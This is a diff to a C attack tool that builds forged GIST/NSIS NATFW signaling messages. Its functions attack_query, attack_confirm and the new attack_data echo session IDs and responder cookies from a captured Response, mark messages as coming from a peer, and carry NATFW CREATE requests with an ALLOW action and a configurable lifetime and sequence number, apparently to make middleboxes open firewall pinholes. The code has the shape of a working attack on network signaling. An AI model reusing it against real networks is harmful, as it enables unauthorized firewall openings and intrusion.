@@ -8,7 +8,7 @@
 
 #include <string.h>
 
-enum { QUERY_HOPS = 32, VALIDITY_MS = 30000, LIFETIME_S = 60, PORT_FIRST = 1024 };
+enum { QUERY_HOPS = 32, VALIDITY_MS = 30000, PORT_FIRST = 1024 };
 
 static struct gist_mri flow_of(const struct attack *attack, unsigned long number)
 {
@@ -68,11 +68,12 @@ size_t attack_query(
     return datagram(&query, octets);
 }
 
-static size_t create(uint8_t octets[NATFW_MESSAGE_MAX])
+static size_t create(
+    const struct attack *attack, uint32_t sequence_number, uint8_t octets[NATFW_MESSAGE_MAX])
 {
     struct natfw_message message = {.type = NATFW_CREATE,
-        .lifetime_s = LIFETIME_S,
-        .sequence_number = 1,
+        .lifetime_s = (uint32_t)attack->lifetime_s,
+        .sequence_number = sequence_number,
         .efi = {.action = NATFW_ALLOW}};
     natfw_message_add(&message, NATFW_LT);
     natfw_message_add(&message, NATFW_EFI);
@@ -80,25 +81,47 @@ static size_t create(uint8_t octets[NATFW_MESSAGE_MAX])
     return natfw_message_build(&message, octets, NATFW_MESSAGE_MAX);
 }
 
+/* The start of a message on what this Response is about; false when it is none. */
+static bool follow(const struct attack *attack, enum gist_message_type type,
+    const uint8_t *response, size_t length, struct gist_message *parsed,
+    struct gist_message *message)
+{
+    struct gist_fault fault;
+    if (length < GIST_MAGIC_LENGTH ||
+        !gist_message_parse(
+            response + GIST_MAGIC_LENGTH, length - GIST_MAGIC_LENGTH, parsed, &fault) ||
+        parsed->header.type != GIST_RESPONSE)
+        return false;
+    *message = message_of(attack, type, &attack->from);
+    message->header.source_is_peer = true;
+    message->mri = gist_mri_reversed(&parsed->mri);
+    message->session_id = parsed->session_id;
+    return true;
+}
+
+size_t attack_data(const struct attack *attack, const uint8_t *response, size_t length,
+    uint32_t sequence_number, uint8_t octets[ATTACK_DATAGRAM_MAX])
+{
+    uint8_t data[NATFW_MESSAGE_MAX];
+    struct gist_message parsed, message;
+    if (!follow(attack, GIST_DATA, response, length, &parsed, &message))
+        return 0;
+    message.nslp_data = (struct gist_octets){data, create(attack, sequence_number, data)};
+    gist_message_add(&message, GIST_OBJECT_NSLP_DATA);
+    return datagram(&message, octets);
+}
+
 size_t attack_confirm(const struct attack *attack, const uint8_t *response, size_t length,
     uint8_t octets[ATTACK_DATAGRAM_MAX])
 {
     uint8_t data[NATFW_MESSAGE_MAX];
-    struct gist_message parsed;
-    struct gist_fault fault;
-    if (length < GIST_MAGIC_LENGTH ||
-        !gist_message_parse(
-            response + GIST_MAGIC_LENGTH, length - GIST_MAGIC_LENGTH, &parsed, &fault) ||
-        parsed.header.type != GIST_RESPONSE)
+    struct gist_message parsed, confirm;
+    if (!follow(attack, GIST_CONFIRM, response, length, &parsed, &confirm))
         return 0;
-    struct gist_message confirm = message_of(attack, GIST_CONFIRM, &attack->from);
-    confirm.header.source_is_peer = true;
-    confirm.mri = gist_mri_reversed(&parsed.mri);
-    confirm.session_id = parsed.session_id;
     confirm.responder_cookie = parsed.responder_cookie;
     gist_message_add(&confirm, GIST_OBJECT_RESPONDER_COOKIE);
     if (attack->with_create) {
-        confirm.nslp_data = (struct gist_octets){data, create(data)};
+        confirm.nslp_data = (struct gist_octets){data, create(attack, 1, data)};
         gist_message_add(&confirm, GIST_OBJECT_NSLP_DATA);
     }
     return datagram(&confirm, octets);
